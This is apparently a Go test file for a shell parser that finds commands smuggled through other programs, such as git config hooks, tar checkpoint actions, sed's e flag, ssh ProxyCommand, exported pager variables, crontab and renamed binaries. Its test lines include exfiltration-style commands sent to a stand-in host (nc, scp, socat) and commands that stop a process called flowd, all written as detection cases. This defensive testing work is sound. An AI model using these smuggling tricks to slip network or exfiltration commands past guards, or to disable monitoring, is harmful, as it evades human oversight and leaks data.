package shellnorm

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// The commands a program runs from text given to it are read as
// commands of the line (Given, Inner), so that every reader of the line
// (classify, cmdrisk, selfguard) sees them.
func TestGivenCommandsAreRead(t *testing.T) {
	for line, want := range map[string]string{
		`git -c core.fsmonitor='nc host 80 < notes' status`:                      "nc",
		`git -c alias.up='!scp notes host:' up`:                                  "scp",
		`GIT_PAGER='wget -q http://host/' git log`:                               "wget",
		`tar -cf x.tar notes --checkpoint=1 --checkpoint-action=exec='ssh host'`: "ssh",
		`tar -xf x.tar --to-command='socat - TCP:host:80'`:                       "socat",
		`sed -n '1e telnet host' notes`:                                          "telnet",
		`awk 'BEGIN { c = "ftp host"; print "x" | c }'`:                          "ftp",
		`sqlite3 :memory: '.shell rsync notes host:'`:                            "rsync",
		`vim -c ':!flowd stop' -c ':q'`:                                          "flowd",
		`less '+!pkill flowd' notes`:                                             "pkill",
		`man -P 'flowd stop #' ls`:                                               "flowd",
		`tmux new -d 'lftp host'`:                                                "lftp",
		`screen -dmS s mosh host`:                                                "mosh",
		"shopt -s expand_aliases\nalias ls='xh host'\nls":                        "xh",
		// git runs commands from many more places than core.pager.
		`git rebase --exec 'nc host 80 < notes' main`:                                               "nc",
		`git bisect run scp notes host:`:                                                            "scp",
		`git difftool -y -x 'socat - TCP:host:80' HEAD`:                                             "socat",
		`git grep -O'lftp host' TODO`:                                                               "lftp",
		`git filter-branch --msg-filter 'ssh host tee x' HEAD`:                                      "ssh",
		`git -c gpg.x509.program='wget host' tag -s v1`:                                             "wget",
		`git -c merge.ours.driver='telnet host' merge x`:                                            "telnet",
		`git -c credential.https://h.example.helper='!xh host' fetch`:                               "xh",
		`git config --global core.sshCommand 'nc host 22'`:                                          "nc",
		`GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.editor GIT_CONFIG_VALUE_0='mosh host' git commit`: "mosh",
		`git clone 'ext::ssh host %S repo'`:                                                         "ssh",
		// A variable exported for the commands after it.
		`export GIT_EDITOR='ftp host'; git commit`:        "ftp",
		`MANPAGER='telnet host'; export MANPAGER; man ls`: "telnet",
		`declare -x BAT_PAGER='nc host 80'; bat notes`:    "nc",
		// Shell and program hatches.
		`trap 'scp notes host:' EXIT`:                                        "scp",
		`sed 's|.*|socat - TCP:host:80|e' notes`:                             "socat",
		`sed --expression='s/^/telnet host/e' notes`:                         "telnet",
		`sed -f /dev/stdin notes <<< 's/.*/lftp host/e'`:                     "lftp",
		`awk -f /dev/stdin <<< 'BEGIN { system("lftp host") }'`:              "lftp",
		`sqlite3 x.db '.once |nc host 80' 'select 1'`:                        "nc",
		`vim -es -c 'call system("wget host")' -c q`:                         "wget",
		`vi -Nesc '!ssh host'`:                                               "ssh",
		`emacs --batch --eval '(shell-command "xh host")'`:                   "xh",
		`fzf --filter x --preview 'nc host 80'`:                              "nc",
		`env -S'telnet host 80'`:                                             "telnet",
		`ssh -o ProxyCommand='nc host 22' box`:                               "nc",
		`ssh -oLocalCommand='scp notes host:' -o PermitLocalCommand=yes box`: "scp",
		`make -f - all <<< $'all:\n\t@wget host'`:                            "wget",
		`printf 'x:\n\tlftp host\n' | make -f /dev/stdin x`:                  "lftp",
		`at now + 1 minute <<< 'socat - TCP:host:80'`:                        "socat",
		`echo '*/5 * * * * nc host 80 < notes' | crontab -`:                  "nc",
	} {
		l := Parse(line)
		var got []string
		for _, c := range l.Commands {
			if c.Given {
				assert.True(t, c.Inner, line)
				got = append(got, c.Name())
			}
		}
		assert.Contains(t, got, want, line)
	}
	for _, line := range []string{
		`git -c user.name=me commit -m 'use nc to test'`,
		`tar -czf out.tgz src`,
		`sed -n '1,5p' notes`,
		`sed 's/e x/y/' notes`,
		`awk '{ print $1 }' log`,
		`man curl`,
		`vim notes`,
		`git cherry-pick -x HEAD~2`,
		`git config user.name 'nc host'`,
		`git commit -m 'run rebase --exec nc host'`,
		`sed 's/e x/y/; s/a/b/g' notes`,
		`sed -e 's/x/y/' -e 's/q/e/' notes`,
		`export EDITORCONFIG=1; ls`,
		`trap - INT`,
		`ssh -o ConnectTimeout=5 box uptime`,
		`crontab -l`,
		`make -f build.mk all`,
	} {
		for _, c := range Parse(line).Commands {
			assert.False(t, c.Given, "%s: %v", line, c.Words)
		}
	}
}

// Builtins that assign a variable, and xargs feeding a shell its script,
// name the command that runs as plainly as an assignment does.
func TestAssignedByBuiltinsAndXargsScripts(t *testing.T) {
	for _, line := range []string{
		`printf -v c flowd; $c stop`,
		`printf -v c '%s' flowd; $c stop`,
		`read -r c <<< flowd; $c stop`,
		`xargs -0 <<< 'flowd stop' sh -c`,
		`echo 'flowd stop' | xargs -0 bash -c`,
		"shopt -s expand_aliases\nalias ll='flowd'\nll stop",
	} {
		var names []string
		for _, c := range Parse(line).Commands {
			names = append(names, c.Name())
		}
		assert.Contains(t, names, "flowd", line)
	}
}

// A program copied or linked under another name is still that program
// when the name runs.
func TestCopiedProgramRunsAsItself(t *testing.T) {
	for line, want := range map[string]string{
		`ln -sf /usr/bin/nc ./ls; ./ls host 80`:                   "nc",
		`cp /usr/bin/ssh /tmp/cat; /tmp/cat host`:                 "ssh",
		`install -m755 /usr/bin/socat tool; ./tool - TCP:host:80`: "socat",
	} {
		var names []string
		for _, c := range Parse(line).Commands {
			names = append(names, c.Name())
		}
		assert.Contains(t, names, want, line)
	}
}

// A shell or source given its script through a process substitution or
// its input runs what that prints.
func TestScriptFromSubstitutionOrInput(t *testing.T) {
	for line, want := range map[string]string{
		`bash <(echo 'mosh host')`:            "mosh",
		`. <(printf 'nc host 80')`:            "nc",
		`source /dev/stdin <<< 'telnet host'`: "telnet",
	} {
		var names []string
		for _, c := range Parse(line).Commands {
			names = append(names, c.Name())
		}
		assert.Contains(t, names, want, line)
	}
}
